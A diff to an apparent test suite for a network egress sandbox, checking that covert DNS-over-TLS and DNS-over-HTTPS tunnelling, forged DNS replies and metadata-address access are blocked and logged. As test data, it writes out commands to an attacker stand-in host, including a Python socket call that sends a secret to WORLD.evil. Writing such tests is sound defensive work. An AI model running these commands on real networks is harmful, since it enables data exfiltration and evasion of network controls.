@@ -153,33 +153,45 @@ describe('D2: encrypted DNS', () => {
       'ok.test',
       ['openssl', 's_client', '-connect', `${WORLD.evil}:853`, '-servername', 'ok.test'],
       WORLD.evil,
+      { policy: 'deny', dst_ip: WORLD.evil, dst_port: 853 },
     ],
     [
       'DNS over TLS at an allowed host',
       'ok.test',
       ['openssl', 's_client', '-connect', `${WORLD.ok}:853`, '-servername', 'ok.test'],
       WORLD.ok,
+      { policy: 'deny', dst_ip: WORLD.ok, dst_port: 853 },
     ],
     [
       'DNS over HTTPS by an allowed name at an address of the attacker',
       'ok.test',
       curl('-k', '--resolve', `ok.test:443:${WORLD.evil}`, `https://ok.test/dns-query?dns=${message}`),
       WORLD.evil,
+      // It goes to where the name really is.
+      { policy: 'allow', host: 'ok.test', dst_ip: WORLD.ok },
     ],
-    ['DNS over HTTPS at the attacker', 'ok.test', curl('-k', `https://${WORLD.evil}/dns-query?dns=${message}`), WORLD.evil],
+    [
+      'DNS over HTTPS at the attacker',
+      'ok.test',
+      curl('-k', `https://${WORLD.evil}/dns-query?dns=${message}`),
+      WORLD.evil,
+      { policy: 'deny', dst_ip: WORLD.evil },
+    ],
     [
       'DNS over HTTPS at an allowed host, where only a path is allowed',
       'https://ok.test/simple/*',
       curl('-k', `https://ok.test/dns-query?dns=${message}`),
       '',
+      { policy: 'deny', url: expect.stringContaining('/dns-query?') },
     ],
-  ])('%s', async (_what, policy, argv, address) => {
+  ])('%s', async (_what, policy, argv, address, told) => {
     const { free, caught } = await attack(lab, argv, { policy });
     expect(free.packets.filter(({ dst }) => dst === (address || WORLD.ok))).not.toEqual([]);
     if (address) expect(reached(caught, address)).toEqual([]);
     expect(caught.seen.filter(({ url }) => url?.includes('dns-query') && !argv.includes('--resolve'))).toEqual([]);
     const lines = caught.log.filter(({ type }) => type !== 'dns' && type !== 'close');
-    expect(lines[0]).toMatchObject({ exe: `/usr/bin/${argv[0]}` });
+    expect(lines[0]).toMatchObject({ exe: `/usr/bin/${argv[0]}`, ...told });
+    expect(new Set(caught.log.map(({ pid }) => pid)).size).toBe(1);
   });
 });
 
@@ -283,6 +295,8 @@ for i in range(4):
         policy,
       },
     );
+    // What curl is told is an answer: that it fails means that the run did.
+    expect(caught.status, caught.stderr).toBe(0);
     expect(caught.stdout).not.toMatch(/^(169|127)\./m);
     expect(reached(caught, '169.254.169.254')).toEqual([]);
     expect(
@@ -447,6 +461,9 @@ while True:
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 30000)); s.settimeout(60); s.recv(512)
 time.sleep(0.3); f = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); f.sendto(bytes.fromhex('${forged.toString('hex')}'), ('127.0.0.53', 53))
 c = socket.create_connection(('${WORLD.evil}', 9999), 30); c.sendall(b's3cret'); print(c.recv(9))`;
+    const dial = `import socket; c = socket.create_connection(('${WORLD.evil}', 9999), 30); c.sendall(b's3cret'); print(c.recv(9))`;
+    expect(unfiltered(lab, [PYTHON, '-c', dial]).stdout).toBe("b's3cret'\n");
+    await lab.quiet();
     const running = lab.run([PYTHON, '-c', inside], { policy: 'ok.test:9999\nok.test' });
     const sprayer = spawn('ip', ['netns', 'exec', lab.world, PYTHON, '-c', spray], { stdio: 'ignore' });
     const caught = await running.finally(() => sprayer.kill('SIGKILL'));
